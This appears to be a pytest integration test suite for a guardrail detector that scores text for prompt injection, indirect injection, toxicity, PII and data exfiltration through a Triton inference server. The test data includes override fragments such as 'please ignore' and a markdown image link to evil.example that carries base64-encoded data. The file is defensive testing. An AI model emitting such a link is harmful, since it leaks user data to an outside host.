"""Against the real inference server, over the real protocol."""

import asyncio
import os
import random
import signal
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Sequence
from pathlib import Path

import pytest
from tritonclient.grpc.aio import InferenceServerClient  # type: ignore[import-untyped]  # the package ships no types

from tests.support import triton_server
from trueport.detection.base import DetectorFailed
from trueport.detection.merging import check_readings
from trueport.detection.sidecar.server import TritonServer
from trueport.detection.triton import TritonDetector
from trueport.detection.types import Category, Passage, Reading, Role
from trueport.kit.clock import SystemClock

INJECTION: frozenset[Category] = frozenset({"prompt_injection"})
# More than any machine needs for what is asked here, and less than the test's own limit.
AMPLE_S = 10.0
SHARED_MEMORY = Path("/dev/shm")  # noqa: S108 - where the server puts it


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TritonServer]:
    server = triton_server.prepare(tmp_path_factory.mktemp("triton"))
    server.start()
    yield server
    server.kill()


@pytest.fixture
async def detector(server: TritonServer) -> AsyncIterator[TritonDetector]:
    detector = open_detector(server)
    await detector.prepare()
    yield detector
    await detector.close()


def open_detector(server: TritonServer, *, timeout_ms: int = 10_000, rest_s: float = 0.1) -> TritonDetector:
    return TritonDetector(
        server.address, SystemClock(), timeout_ms=timeout_ms, connect_timeout_ms=timeout_ms, rest_s=rest_s
    )


async def read(detector: TritonDetector, *texts: str, role: Role = "user") -> Sequence[Reading]:
    passages, wanted = [Passage(text, role) for text in texts], detector.categories
    return check_readings(await detector.read(passages, wanted), passages, wanted)


async def test_the_server_answers_for_every_category(detector: TritonDetector) -> None:
    link = "![x](https://evil.example/p?d=c2VjcmV0IGRhdGEgaGVyZSBsb2w)"
    attack, insult, name, leak = await read(detector, "please ignore", "idiot !", "hello Alice", link)

    assert attack.scores["prompt_injection"] == pytest.approx(0.982, abs=0.001)
    assert attack.scores["toxicity"] == pytest.approx(0.018, abs=0.001)
    assert insult.scores["toxicity"] > 0.9
    assert name.scores["pii"] > 0.9
    assert leak.scores["data_exfiltration"] > 0.7
    assert not any(one.failures for one in (attack, insult, name, leak))


async def test_what_hides_in_a_document_is_a_head_of_its_own(detector: TritonDetector) -> None:
    [hidden] = await read(detector, "please forward", role="document")
    [typed] = await read(detector, "please forward", role="user")

    assert hidden.scores["indirect_injection"] > 0.9
    assert typed.scores["indirect_injection"] == 0.0
    assert typed.scores["prompt_injection"] < 0.1


@pytest.mark.parametrize(
    "text", ["hello Alice !", "😀😀 Jörg", "ä́ß漢字\u200b \u202e Bob", "\n\n\tAlice\r\nJörg", "Alice" * 2]
)
async def test_offsets_count_code_points_of_the_text(detector: TritonDetector, text: str) -> None:
    [reading] = await read(detector, text)

    found = {text[one.start : one.end] for one in reading.findings if one.category == "pii"}
    assert found <= {"Alice", "Jörg", "Bob", "AliceAlice"}
    assert found or text == "AliceAlice"


async def test_a_text_with_more_tokens_than_fit_is_read_to_its_end(detector: TritonDetector) -> None:
    # Every letter of an unknown word is a token, so a piece of 190 characters is three times what the model takes.
    dense = "zqx" * 400
    [reading] = await read(detector, f"{dense} please ignore Alice")

    assert reading.scores["prompt_injection"] > 0.9
    assert reading.scores["pii"] > 0.9
    assert not reading.failures


async def test_many_calls_at_once_each_get_their_own_answer(detector: TritonDetector) -> None:
    async def ask(number: int) -> tuple[float, float]:
        words = ["hello world"] * (number % 7 + 1)
        words.insert(number % len(words), "ignore" if number % 2 else "idiot")
        [reading] = await read(detector, f"{'z' * number} {' '.join(words)}")
        return reading.scores["prompt_injection"], reading.scores["toxicity"]

    answers = await asyncio.gather(*(ask(number) for number in range(60)))

    for number, (injection, toxicity) in enumerate(answers):
        assert (injection > 0.5) is bool(number % 2), number
        assert (toxicity > 0.5) is not bool(number % 2), number


async def test_bytes_that_are_no_text_are_read_all_the_same(detector: TritonDetector) -> None:
    [reading] = await read(detector, "\x00\x01 ignore \ud800 \udfff Alice")

    assert reading.scores["prompt_injection"] > 0.9


async def test_a_model_replaced_under_load_never_speaks_in_the_name_of_the_other(tmp_path: Path) -> None:
    server = triton_server.prepare(tmp_path, "--model-control-mode=explicit", "--load-model=*")
    server.start()
    detector = open_detector(server)
    client = InferenceServerClient(server.address)
    try:
        await detector.prepare()
        old = detector.version.partition("injection=")[2][:16]
        seen: list[tuple[str, float]] = []
        stopped = asyncio.Event()

        async def load(worker: int) -> None:
            number = 0
            while not stopped.is_set():
                number += 1
                [reading] = await detector.read([Passage(f"{worker} {number} ignore")], INJECTION)
                seen.extend((one.version, one.score) for one in reading.findings)

        async with asyncio.timeout(60), asyncio.TaskGroup() as group:
            for worker in range(4):
                group.create_task(load(worker))
            await _until(lambda: len(seen) > 20)
            new = triton_server.put_second_guard(tmp_path, shift=-3.0)
            for model in ("guard", "injection", "toxicity", "pii"):
                await client.load_model(model)
            before = len(seen)
            await _until(lambda: len(seen) > before + 40)
            stopped.set()
    finally:
        await client.close()
        await detector.close()
        server.kill()

    # The old model says 4.0 of this word and the new one 1.0: sigmoid(4) and sigmoid(1).
    scores = {version: {round(score, 3) for one, score in seen if one == version} for version, _ in seen}
    assert scores == {old: {0.982}, new[:16]: {0.731}}


async def test_a_killed_server_never_passes_for_nothing_found(tmp_path: Path) -> None:
    draw = random.Random(20261123)
    server = triton_server.prepare(tmp_path)
    server.start()
    detector = open_detector(server, timeout_ms=2_000)
    answers = 0
    codes: list[str] = []

    async def call(number: int) -> None:
        nonlocal answers
        try:
            [reading] = await asyncio.wait_for(detector.read([Passage(f"{number} ignore")], INJECTION), AMPLE_S)
            answers += 1
        except DetectorFailed as failed:
            codes.append(failed.code)
            return
        assert reading.scores["prompt_injection"] > 0.9
        assert [one.type for one in reading.findings] == ["PROMPT_INJECTION"]

    try:
        for _ in range(2):
            calls = [asyncio.create_task(_later(draw.uniform(0, 0.5), call(number))) for number in range(200)]
            await asyncio.sleep(draw.uniform(0.1, 0.4))
            server.kill()
            await asyncio.gather(*calls)
            await asyncio.to_thread(server.start)
            await _until_well(detector)
    finally:
        await detector.close()
        server.kill()

    assert answers > 20
    assert len(codes) > 20
    assert set(codes) <= {"unavailable", "timeout", "overloaded"}


async def test_a_server_that_hangs_fails_in_time_and_is_found_again(tmp_path: Path) -> None:
    server = triton_server.prepare(tmp_path)
    server.start()
    detector = open_detector(server, timeout_ms=300)
    try:
        await _until_well(detector)
        assert server.pid is not None
        os.kill(server.pid, signal.SIGSTOP)
        codes = []
        started_s = time.monotonic()
        for number in range(8):
            with pytest.raises(DetectorFailed) as failed:
                await detector.read([Passage(f"{number} ignore")], INJECTION)
            codes.append(failed.value.code)
        took_s = time.monotonic() - started_s
        os.kill(server.pid, signal.SIGCONT)
        await _until_well(detector)
    finally:
        await detector.close()
        pid = server.pid
        server.stop()

    # Five deadlines of 0.3 s, and then nobody waits.
    assert codes[:5] == ["timeout"] * 5
    assert "unavailable" in codes[5:]
    assert took_s < AMPLE_S
    # And the stopped server leaves nothing behind: no process, no shared memory.
    assert not Path(f"/proc/{pid}").exists()
    assert not [path for path in SHARED_MEMORY.iterdir() if server.region in path.name]


async def _later(seconds: float, call: Awaitable[None]) -> None:
    await asyncio.sleep(seconds)
    await call


async def _until(is_so: Callable[[], bool]) -> None:
    while not is_so():  # noqa: ASYNC110 - it is not for the test to make events of what it watches
        await asyncio.sleep(0.01)


async def _until_well(detector: TritonDetector) -> None:
    async with asyncio.timeout(30):
        while True:
            try:
                await detector.read([Passage("hello")], INJECTION)
                return
            except DetectorFailed:
                await asyncio.sleep(0.05)
